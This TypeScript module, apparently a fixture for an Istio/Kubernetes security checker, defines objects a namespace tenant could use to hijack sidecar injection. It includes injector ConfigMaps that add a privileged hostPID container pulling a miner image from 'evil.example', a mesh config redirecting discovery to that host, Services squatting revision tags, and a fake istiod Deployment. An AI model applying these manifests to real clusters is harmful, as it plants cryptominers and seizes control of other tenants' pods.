/**
 * Objects with which a tenant with edit rights in one namespace tries to add a privileged container to other pods: a
 * revision of their own, and tags by Services that take the names of the default revision and of the canary. Not a test.
 */
import type { JsonObject } from '../../src/json/index.ts'

export const TENANT = 'tenant'
export const FOREIGN_IMAGE = 'evil.example/miner:1'

const TEMPLATE = `policy: enabled
defaultTemplates: [sidecar]
templates:
  sidecar: |
    spec:
      hostPID: true
      containers:
      - name: istio-proxy
        image: ${FOREIGN_IMAGE}
        securityContext: {privileged: true}
`

const configMap = (name: string, data: JsonObject): JsonObject => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name, namespace: TENANT, labels: { 'app.kubernetes.io/version': '1.30.3' } },
  data,
})
const injector = (name: string) =>
  configMap(name, { config: TEMPLATE, values: '{"global":{"hub":"h","tag":"1.30.3","proxy":{}}}' })
const tagService = (tag: string): JsonObject => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: {
    name: `tag-${tag}`,
    namespace: TENANT,
    labels: { 'istio.io/tag': tag, 'istio.io/rev': 'x', app: 'istiod' },
  },
  spec: { ports: [{ name: 'https', port: 443 }] },
})

export const attackConfigMaps: readonly JsonObject[] = [
  injector('istio-sidecar-injector-x'),
  // Also under the name of a revision that there is, and of the default one.
  injector('istio-sidecar-injector-canary'),
  injector('istio-sidecar-injector'),
  configMap('istio-x', { mesh: 'defaultConfig: {discoveryAddress: "evil.example:15012"}' }),
]
export const attackServices: readonly JsonObject[] = ['default', 'canary', 'prod-stable'].map(tagService)
/** Labelled as the istiod of the default revision, with an environment for it. */
export const attackDeployment: JsonObject = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'istiod', namespace: TENANT, labels: { app: 'istiod', 'istio.io/rev': 'default' } },
  spec: {
    selector: { matchLabels: { app: 'istiod' } },
    template: {
      metadata: { labels: { app: 'istiod' } },
      spec: {
        containers: [
          { name: 'discovery', image: 'x', env: [{ name: 'ENABLE_NATIVE_SIDECARS', value: 'true' }] },
        ],
      },
    },
  },
}

export const attack: readonly JsonObject[] = [...attackConfigMaps, ...attackServices, attackDeployment]
